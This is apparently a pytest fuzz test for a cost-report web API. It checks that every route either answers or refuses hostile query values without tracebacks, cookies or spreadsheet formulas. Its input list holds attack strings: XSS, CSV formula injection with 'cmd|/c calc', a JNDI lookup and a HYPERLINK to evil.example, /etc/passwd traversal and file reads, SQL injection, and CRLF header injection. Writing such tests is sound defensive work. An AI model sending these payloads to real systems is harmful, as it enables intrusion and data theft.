"""Hostile texts in every field: refused by name or answered, never a crash, a trace or an echo."""

from __future__ import annotations

import csv
import io
import json
import random
import re
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from starlette.applications import Starlette
from starlette.testclient import TestClient

from calculators.scenario import fields
from report import api, links

TEXTS = (
    "<script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example")',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    '#let x = read("/etc/passwd")',
    "$\\input{/etc/passwd}$",
    "\x00",
    "\ud7ff\U0010ffff",
    "\u202e\u2066evil",
    "１２３",
    "1_000",
    "1e309",
    "-0",
    "0x10",
    "NaN",
    "inf",
    "[](javascript:alert(1))",
    ":material/bolt:",
    "%00%0d%0aSet-Cookie: a=b",
    "' OR 1=1 --",
    "a" * 5_000,
    ",".join(["x"] * 400),
    "\\" * 50,
)
NAMES = (
    *fields(),
    "v",
    "edition",
    "price_date",
    "method",
    "was",
    "candidates",
    "break_even",
    "axis",
    "values",
    "a",
    "b",
    "x",
    "y",
    "n",
    "low",
    "price.",
    "price.a/b/c",
    "discount.x",
    "fixed.owned",
    "assume.pue",
    "nonsense",
)
WATCHED = ("/healthz", "/readyz", links.OPENAPI, links.SELF_CHECK_API)
"""Routes that read no scenario."""
NEEDED = {
    links.COMPARE_API: "candidates=best",
    links.SWEEP_API: "axis=requests_per_month&values=1e5,1e7",
    links.BREAK_EVEN_API: "axis=requests_per_month&a=managed_api&b=rented",
    links.MAP_API: "x=requests_per_month&y=staff_usd_per_hour&n=5",
    links.SIDE_BY_SIDE_API: "b.pue=1.4",
    links.csv("map"): "x=requests_per_month&y=staff_usd_per_hour&n=5",
    links.csv("map_lines"): "x=requests_per_month&y=staff_usd_per_hour&n=5",
    links.csv("side_by_side"): "b.pue=1.4",
    links.csv("side_by_side_items"): "b.pue=1.4",
    links.csv("side_by_side_inputs"): "b.pue=1.4",
}
"""What a route asks for besides a scenario: without it, all it would do is refuse."""
PATHS = tuple(
    path
    for path in dict.fromkeys(route.path for route in api.ROUTES)
    if path not in WATCHED and path != "/api" and "{" not in path
)
"""Every output of a scenario."""
SAMPLE, SOAK = 60, 2_000
TRACES = ("Traceback", "site-packages", 'File "', "root:x:0")
KINDS = ("application/json", "application/pdf", "text/csv", "spreadsheetml")
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def client() -> Iterator[TestClient]:
    app = Starlette(routes=api.ROUTES, exception_handlers={500: api.failed})
    with TestClient(app, raise_server_exceptions=False) as found:
        yield found


def hostile(seed: int) -> str:
    """A query with one hostile pair; by turns every field, every output and every text."""
    dice = random.Random(seed)
    name = NAMES[seed % len(NAMES)] if seed % 9 else dice.choice((*TEXTS, "title", "b.title"))
    path, text = PATHS[seed % len(PATHS)], TEXTS[seed // 3 % len(TEXTS)]
    pair = f"{quote(name.encode('utf-8', 'replace'))}={quote(text.encode('utf-8', 'replace'))}"
    # what a route needs is not said twice: that alone would be refused
    needed = [part for part in NEEDED.get(path, "").split("&") if part.partition("=")[0] != name]
    return f"{path}?{'&'.join([*filter(None, needed), pair])}"


def test_every_field_every_output_and_every_text_is_among_them() -> None:
    asked = [hostile(seed).partition("?") for seed in range(SOAK)]
    assert {path for path, _, _ in asked} == set(PATHS)
    pairs = [query.rpartition("&")[2].partition("=") for _, _, query in asked]
    assert {quote(name) for name in (*NAMES, *TEXTS)} <= {name for name, _, _ in pairs}
    assert {quote(text) for text in TEXTS} == {text for _, _, text in pairs}
    assert set(NEEDED) <= set(PATHS)


def ask(client: TestClient, path: str) -> bool:
    """Whether it was answered; else it was refused, by name."""
    found = client.get(path)
    assert found.status_code in (200, 422), path
    kind = found.headers["content-type"]
    assert any(known in kind for known in KINDS), (path, kind)
    assert "set-cookie" not in found.headers
    named = found.headers.get("content-disposition", "")  # a file is named by its title
    assert re.fullmatch(r'((attachment|inline); filename="[\w.-]+")?', named, re.ASCII), named
    if found.status_code == 422:
        assert kind == "application/json", path
        assert all(item["field"] and item["allowed"] for item in found.json()["details"]), path
        assert found.json()["details"], path
    if kind == "application/json":
        json.loads(found.content)
    if "csv" in kind:
        cells = [cell for row in csv.reader(io.StringIO(found.text, newline="")) for cell in row]
        assert not [cell for cell in cells if is_formula(cell)], path
    if "pdf" not in kind and "spreadsheet" not in kind:
        assert not any(trace in found.text for trace in TRACES), path
    return found.status_code == 200


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would work a cell out: words that begin as a formula does."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULAS)
    return False


@pytest.mark.parametrize("part", range(4))
def test_hostile_texts_are_refused_or_answered(client: TestClient, part: int) -> None:
    for seed in range(part, SAMPLE, 4):
        ask(client, hostile(seed))


@pytest.mark.soak
@pytest.mark.parametrize("part", range(5))  # of a hundred all may be refused, by chance
def test_two_thousand_hostile_texts(client: TestClient, part: int) -> None:
    answered = [ask(client, hostile(seed)) for seed in range(part, SOAK, 5)]
    assert any(answered)
    assert not all(answered)
